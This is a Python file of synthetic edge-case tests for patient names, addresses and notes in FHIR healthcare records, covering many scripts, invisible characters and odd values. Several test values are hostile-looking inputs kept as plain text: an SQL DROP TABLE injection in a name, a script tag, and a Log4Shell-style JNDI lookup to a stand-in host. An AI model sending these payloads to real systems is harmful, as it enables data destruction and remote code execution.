"""Names and addresses of people as they are: in all scripts, long, short, and alarming to software."""

from __future__ import annotations

from typing import Any

from synthetic.edge_cases.case import (
    Apply,
    Case,
    Changes,
    Outcome,
    Scene,
    changed,
    edited,
    valid,
)
from synthetic.edge_cases.exact_json import dumps
from synthetic.edge_cases.paths import Json
from synthetic.edge_cases.targets import EXTENSION, condition, patient

_READING = EXTENSION + "iso21090-EN-representation"
_LONG = "Wolfeschlegelsteinhausenbergerdorff" * 6


def named(*given: str, family: str | None = None, text: str | None = None, use: str = "official") -> Apply:
    """The case of a patient with this name; references to the patient show it too."""
    name: dict[str, Any] = {"use": use, "text": text or " ".join([*given, *([family] if family else [])])}
    if family:
        name["family"] = family
    if given:
        name["given"] = list(given)

    def apply(scene: Scene) -> Outcome:
        before = scene.chart.patient
        body = before.body
        shown = [b'"reference":"Patient/%b","display":%b' % (before.id.encode(), dumps(text)) for text in
                 (body["name"][0]["text"], name["text"])]  # fmt: skip
        after = changed(before, body, {"name[0]": name})
        others = (item._replace(json=item.json.replace(shown[0], shown[1])) for item in scene.chart.resources[1:])
        return Outcome((after.resource, *others), (after,))

    return apply


def readings(_body: Json, _scene: Scene) -> Changes:
    """A name in ideographs, with its syllables and its Latin spelling told apart by an extension."""

    def name(family: str, given: str, kind: str) -> dict[str, Any]:
        extension = [{"url": _READING, "valueCode": kind}]
        text = f"{family} {given}"
        return {"extension": extension, "use": "official", "text": text, "family": family, "given": [given]}

    return {"name": [name("山田", "太郎", "IDE"), name("ヤマダ", "タロウ", "SYL"), name("Yamada", "Taro", "ABC")]}


def married(body: Json, _scene: Scene) -> Changes:
    """Five names of different use and period."""
    now = body["name"][0] | {"period": {"start": "2019-05-04"}}
    return {
        "name": [
            now,
            {"use": "maiden", "family": "Quartermaine", "given": now["given"]},
            {"use": "old", "family": "Ashdown", "given": now["given"], "period": {"end": "2019-05-03"}},
            {"use": "nickname", "given": ["Bo"]},
            {"use": "anonymous", "given": ["Bed Seven"]},
        ]
    }


_ABROAD = {
    "use": "temp",
    "line": ["c/o Åsa Öberg", "Flat 3½, 12\u201314 Rue de l\u2019Église", "BP 7"],
    "city": "Saint-Denis",
    "country": "RE",
}

CASES: tuple[Case, ...] = (
    valid(
        "single-name",
        "Patient.name",
        "MAP-09",
        "The patient has one name, and it is not a family name",
        edited(patient, {"name": [{"use": "official", "text": "Suharto", "given": ["Suharto"]}]}),
    ),
    valid(
        "newborn-without-name",
        "Patient.name",
        "MAP-09 MAP-06",
        "A newborn has no name yet and is registered under a placeholder that many others share",
        named("BABY BOY", family="SMITH", use="temp"),
    ),
    valid(
        "unidentified-patient",
        "Patient.name",
        "MAP-09 MAP-06",
        "Nobody knows who the patient is; the name is an alias of the emergency department",
        named("Trauma", family="Whiskey", use="anonymous"),
    ),
    valid(
        "arabic-name",
        "Patient.name",
        "MAP-09",
        "The name is written from right to left",
        named("عبد الرحمن", family="الخوارزمي"),
    ),
    valid(
        "ideographic-name-with-readings",
        "Patient.name",
        "MAP-09",
        "One name in three spellings, told apart by an extension; the first one is shown",
        edited(patient, readings),
    ),
    valid(
        "character-beyond-16-bits",
        "Patient.name",
        "MAP-09",
        "The family name has a character beyond U+FFFF, which needs two units in UTF-16",
        named("太郎", family="𠮷田"),
    ),
    valid(
        "combining-accents",
        "Patient.name",
        "MAP-09",
        "Accents are characters of their own (NFD); the name means the same as its composed form",
        named("Zoe\u0308", family="Nguye\u0302\u0303n-Muñoz"),
    ),
    valid(
        "apostrophes-of-both-kinds",
        "Patient.name",
        "MAP-09 NEG-04",
        "The name has a typewriter apostrophe and a typographic one",
        named("D'Angelo", family="O\u2019Neill"),
    ),
    valid(
        "name-of-210-characters",
        "Patient.name",
        "MAP-09",
        "The family name has 210 characters, none of which may go",
        named("Hubert", family=_LONG),
    ),
    valid(
        "emoji-in-name",
        "Patient.name",
        "MAP-09",
        "The name has an emoji made of four characters and joiners",
        named("Robin 👩\u200d👩\u200d👧", family="Vale"),
    ),
    valid(
        "surname-null",
        "Patient.name",
        "MAP-09",
        "The family name is Null, and the patient has one",
        named("Jennifer", family="Null"),
    ),
    valid(
        "name-like-a-command",
        "Patient.name",
        "MAP-09 NEG-04",
        "The name looks like a database command and is a name",
        named("Robert'); DROP TABLE Patients;--", family="Tables"),
    ),
    valid(
        "direction-marks-in-name",
        "Patient.name",
        "MAP-09",
        "The name has invisible marks of writing direction and a soft hyphen",
        named("\u2067שרה\u2069", family="Lev\u00ady"),
    ),
    valid(
        "quotes-and-backslash-in-name",
        "Patient.name",
        "MAP-09 NEG-04",
        "The name has quotation marks and a backslash, which JSON escapes",
        named('William "Bill"', family="Back\\slash"),
    ),
    valid(
        "family-name-of-many-words",
        "Patient.name",
        "MAP-09",
        "The family name has four words with small letters and no-break spaces",
        named("María del Carmen", family="de\u00a0la\u00a0Cruz y van\u00a0't\u00a0Hoff"),
    ),
    valid(
        "five-names",
        "Patient.name",
        "MAP-09 MAP-06",
        "The patient has five names by use and period; the first one is current",
        edited(patient, married),
    ),
    valid(
        "address-abroad",
        "Patient.address",
        "MAP-09",
        "The address is abroad: three lines, no state, no postal code",
        edited(patient, {"address[0]": _ABROAD}),
    ),
    valid(
        "line-breaks-in-address",
        "Patient.address.text",
        "MAP-09",
        "The address has line breaks and a tab",
        edited(patient, {"address[0].text": "12 High Street\r\nAnytown\tNY\n"}),
    ),
    valid(
        "markup-in-note",
        "Condition.note",
        "MAP-09 NEG-04",
        "A note has angle brackets, ampersands and what looks like a script; it is text",
        edited(
            condition,
            {
                "note": [
                    {
                        "text": "BP <90/60 & falling; K+ >6.0\n<script>alert('no')</script> &amp; ${jndi:ldap://x.invalid}"
                    }
                ]
            },
        ),
    ),
)
